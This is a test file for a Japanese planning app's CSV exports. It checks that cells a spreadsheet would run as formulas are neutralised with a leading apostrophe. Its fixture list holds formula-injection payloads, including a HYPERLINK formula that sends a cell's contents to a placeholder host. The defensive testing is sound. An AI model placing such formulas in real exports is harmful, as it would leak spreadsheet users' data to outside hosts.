import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { PlanTree } from '../plan/hierarchy';
import type { Plan, PlanNode } from '../plan/schema';
import { progressCsv, progressTemplate } from '../progress/progressCsv';
import { readProgress } from '../progress/readProgress';
import { csvText, neutralise } from './csvText';
import { toCsv } from './toCsv';

/** Cells a spreadsheet would run as formulas: each starts (maybe after spaces) with = + - @ tab CR or a full-width sign. */
const HOSTILE = [
  '=HYPERLINK("http://x.example/?"&A1,"詳しく")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1',
  '\r=1',
  '  =1+1',
  '　＝１＋１',
  '＋1',
  '－cmd',
  '＠x',
];
/** A spreadsheet's reading: the first non-space character of a cell decides whether it is a formula. */
const runsAsFormula = (cell: string) => /^[\s\u3000]*[=+\-@＝＋－＠]/u.test(cell) && !/^-?[\d,]+(\.\d+)?%?$/.test(cell);
const cells = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data.flat();

const node = (id: string, title: string, children: PlanNode[] = []): PlanNode => ({
  id,
  level: 'x',
  code: '',
  title,
  description: title,
  tags: [],
  children,
  line: 1,
});
const hostilePlan = (): Plan => {
  const plan = JSON.parse(readFileSync('static/plans/kasama.json', 'utf8')) as Plan;
  return {
    ...plan,
    root: node(
      'root',
      HOSTILE[0],
      HOSTILE.map((t, i) => node(String(i + 1), t)),
    ),
  };
};

describe('CSV cells a spreadsheet would read as formulas', () => {
  it('are neutralised with a leading apostrophe; plain numbers, negative ones too, stay numbers', () => {
    for (const h of HOSTILE) expect(neutralise(h), JSON.stringify(h)).toBe(`'${h}`);
    expect(['-5', '-1,200', '3.5', '80%', '見守り', 'a=b', ''].map(neutralise)).toEqual([
      '-5',
      '-1,200',
      '3.5',
      '80%',
      '見守り',
      'a=b',
      '',
    ]);
    expect(cells(csvText([HOSTILE])).some(runsAsFormula)).toBe(false);
  });

  it('in the item list (項目の一覧を CSV で保存): titles, paths and descriptions', () => {
    const out = cells(toCsv(hostilePlan()));
    expect(out.filter((c) => c.includes('HYPERLINK')).length).toBeGreaterThanOrEqual(3);
    expect(out.filter(runsAsFormula)).toEqual([]);
  });

  it('in the template (評価シートのひな形): the 項目 column', () => {
    const plan = hostilePlan();
    const out = cells(progressTemplate(plan, new PlanTree(plan.root), 2025));
    expect(out).toContain(`'${HOSTILE[1]}`);
    expect(out.filter(runsAsFormula)).toEqual([]);
  });

  it('in the progress export (進捗を CSV で保存): memos and indicators, which read back as they were', () => {
    const ids = new Set(['1-1', '1-2']);
    const sheet =
      'id,年度,評価,メモ,指標,目標値,実績値\n1-1,2025,A,"=HYPERLINK(""http://x.example"",""a"")",@指標,-5,"-1,200"\n1-2,2025,B,-予定より遅れ,+2,,\n';
    const read = readProgress(sheet, ids).sheet!;
    const out = progressCsv(read.evaluations);
    expect(cells(out).filter(runsAsFormula)).toEqual([]);
    // Negative numbers in 目標値 and 実績値 stay numbers.
    expect(cells(out)).toEqual(expect.arrayContaining(['-5', '-1,200']));
    expect(readProgress(out, ids).sheet!.evaluations).toEqual(read.evaluations.map((e, i) => ({ ...e, line: i + 2 })));
  });
});
